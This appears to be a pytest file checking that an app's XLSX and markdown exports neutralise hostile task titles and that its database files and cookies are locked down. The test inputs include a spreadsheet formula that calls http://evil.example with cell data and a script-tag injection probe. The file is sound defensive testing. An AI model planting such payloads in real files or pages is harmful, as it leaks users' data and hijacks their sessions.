"""Exports and files under hostile content (issue 18): no live formulas, no raw HTML, private files."""

from __future__ import annotations

import stat
from collections.abc import Callable
from pathlib import Path

import openpyxl
from click.testing import CliRunner, Result
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker
from starlette.testclient import TestClient

from cli import cli
from engine import db
from engine.models import Task
from tests.web.conftest import SECRET
from web.app import create_app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
SCRIPT = "<script>alert(1)</script>"


def _retitle(factory: sessionmaker[Session], code: str, title: str) -> None:
    with db.transaction(factory) as s:
        s.execute(update(Task).where(Task.code == code).values(title=title))


def test_a_formula_looking_title_is_text_in_the_xlsx_report(
    kon_tum: sessionmaker[Session], run: Callable[..., Result], tmp_path: Path
) -> None:
    _retitle(kon_tum, "1.1", FORMULA)
    _retitle(kon_tum, "1.2", "+1+2")
    target = tmp_path / "report.xlsx"
    run("report", "annual", "--plan", "kon-tum-2013", "--year", "2014", "--xlsx", str(target))
    book = openpyxl.load_workbook(target)
    try:
        sheet = book.active
        assert sheet is not None
        cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    finally:
        book.close()
    for title in (FORMULA, "+1+2"):
        assert cells[title].data_type == "s"
        assert cells[title].quotePrefix


def test_markdown_reports_and_digests_carry_no_raw_html_from_titles(
    kon_tum: sessionmaker[Session], run: Callable[..., Result]
) -> None:
    _retitle(kon_tum, "1.1", SCRIPT)
    report = run("report", "annual", "--plan", "kon-tum-2013", "--year", "2015", "--format", "md")
    digest = run("digest", "--plan", "kon-tum-2013", "--as-of", "2016-01-10", "--format", "md")
    for output in (report.output, digest.output):
        assert "<script" not in output
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output
    assert "| 1.1 |" in report.output


def test_a_new_database_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    target = tmp_path / "new-folder" / "dondoc.sqlite3"
    result = CliRunner().invoke(cli, ["--db", str(target), "init"])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert stat.S_IMODE(target.parent.stat().st_mode) == 0o700


def test_secure_cookies_mark_the_session_cookie_secure(
    kon_tum: sessionmaker[Session], db_url: str
) -> None:
    for secure in (False, True):
        app = create_app(db_url, secret=SECRET, secure_cookies=secure)
        with TestClient(app) as client:
            cookie = client.get("/signin").headers.get("set-cookie", "")
        assert "dondoc_session=" in cookie
        assert ("secure" in cookie.lower()) is secure
    help_text = CliRunner().invoke(cli, ["serve", "--help"]).output
    assert "--secure-cookies" in help_text
